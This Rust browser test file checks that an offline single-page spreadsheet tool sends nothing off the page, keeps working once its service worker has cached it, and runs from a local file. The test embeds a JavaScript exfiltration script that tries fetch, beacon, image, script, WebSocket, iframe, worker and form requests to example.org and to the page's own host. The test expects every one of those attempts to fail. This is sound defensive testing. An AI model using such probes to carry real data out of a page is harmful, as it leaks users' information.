//! Tests that nothing leaves the page, and that the page needs no host once it is loaded.

use super::program::root;
use super::{ALL_DONE, Chrome, dist, has_browser, open_page};

/// JavaScript that tries all ways to send data out of the page, and returns the ways that succeeded. Each
/// must fail, for another host and for the page's own host.
const EXFILTRATION_SCRIPT: &str = "(async () => {
    const out = [];
    const to = async (name, way) => { try { await way(); out.push(name); } catch { /* as it should be */ } };
    for (const host of ['https://example.org/', location.href]) {
      await to(`fetch ${host}`, () => fetch(`${host}?berkas=1`));
      // It tells nobody whether it was sent: the host does.
      await to(`beacon ${host}`, () => { navigator.sendBeacon(`${host}?berkas=2`, 'x'); throw 0; });
      await to(`picture ${host}`, () => new Promise((yes, no) => {
        const picture = new Image(); picture.onload = yes; picture.onerror = no; picture.src = `${host}?berkas=3`; }));
      await to(`script ${host}`, () => new Promise((yes, no) => { const script = document.createElement('script');
        script.onload = yes; script.onerror = no; script.src = `${host}?berkas=4`; document.head.append(script); }));
      await to(`socket ${host}`, () => new Promise((yes, no) => {
        const socket = new WebSocket(host.replace('http', 'ws')); socket.onopen = yes; socket.onerror = no; }));
      await to(`frame ${host}`, () => new Promise((yes, no) => { const frame = document.createElement('iframe');
        document.addEventListener('securitypolicyviolation', no, { once: true });
        frame.onload = yes; frame.src = `${host}?berkas=5`; document.body.append(frame); }));
      // As the worker of the page is made.
      await to(`worker ${host}`, () => new Promise((yes, no) => {
        const text = `fetch('${host}?berkas=6').then(() => postMessage(1), () => postMessage(0))`;
        const worker = new Worker(URL.createObjectURL(new Blob([text], { type: 'text/javascript' })));
        worker.onmessage = ({ data }) => (data ? yes() : no()); }));
    }
    return out;
  })()";

#[test]
fn nothing_leaves_the_page() {
    if !has_browser() {
        return;
    }
    let (server, chrome) = open_page();
    // Wait for the service worker: it requests the files for its cache in the background.
    chrome.evaluate("navigator.serviceWorker.ready.then(() => 1)");
    chrome.drop_files(&[&root().join("workbooks/renja-bkd-2021.xlsx")]);
    chrome.wait_for(ALL_DONE);
    let asked = server.requested_paths();
    let own = |url: &String| {
        url.starts_with(&server.address)
            || ["blob:", "data:", "about:"].iter().any(|own| url.starts_with(own))
    };
    let others: Vec<String> =
        chrome.requested_urls.borrow().iter().filter(|url| !own(url)).cloned().collect();
    assert!(others.is_empty(), "{others:?}");
    assert_eq!(chrome.evaluate(EXFILTRATION_SCRIPT), serde_json::json!([]), "ways out of the page");
    // A beacon does not report whether it was sent, so look at the requests that the host received.
    assert!(
        !server.requested_paths().iter().any(|path| path.contains("berkas")),
        "{:?}",
        server.requested_paths()
    );
    assert_eq!(server.requested_paths().len(), asked.len());
    // Submitting a form must not send anything either.
    chrome.evaluate(
        "(() => { const form = document.createElement('form'); form.action = '?berkas=7'; form.method = 'post';
           document.body.append(form); form.submit(); })()",
    );
    std::thread::sleep(std::time::Duration::from_millis(300));
    assert_eq!(server.requested_paths().len(), asked.len());
}

#[test]
fn a_second_visit_needs_no_host() {
    if !has_browser() {
        return;
    }
    let (server, chrome) = open_page();
    chrome.evaluate("navigator.serviceWorker.ready.then((one) => one.active.state)");
    chrome.wait_for("navigator.serviceWorker.controller");
    server.stop();
    let before = server.requested_paths().len();
    chrome.open(&server.address);
    assert_processes_workbook(&chrome);
    assert_eq!(server.requested_paths().len(), before);
}

#[test]
fn the_single_file_works_from_a_folder() {
    if !has_browser() {
        return;
    }
    let folder = tempfile::tempdir().expect("a folder");
    let page = folder.path().join("renja.html");
    std::fs::copy(dist().join("renja.html"), &page).expect("a copy");
    let chrome = Chrome::new(1366, 768);
    chrome.open(&format!("file://{}", page.display()));
    assert_processes_workbook(&chrome);
    let own = |url: &String| ["file:", "blob:", "data:", "about:"].iter().any(|own| url.starts_with(own));
    let others: Vec<String> =
        chrome.requested_urls.borrow().iter().filter(|url| !own(url)).cloned().collect();
    assert!(others.is_empty(), "{others:?}");
    let out = "fetch('https://example.org/').then(() => 'sent', () => 'kept')";
    assert_eq!(chrome.evaluate_text(out), "kept");
    eprintln!("{} bytes", std::fs::metadata(&page).expect("it is there").len());
}

/// Asserts that the page can process a workbook.
fn assert_processes_workbook(chrome: &Chrome) {
    chrome.drop_files(&[&root().join("workbooks/renja-bkd-2021.xlsx")]);
    chrome.wait_for(ALL_DONE);
    assert_eq!(
        chrome.evaluate_text("renja.page.files[0].state"),
        "done",
        "{}",
        chrome.evaluate_text("renja.page.files[0].why")
    );
}
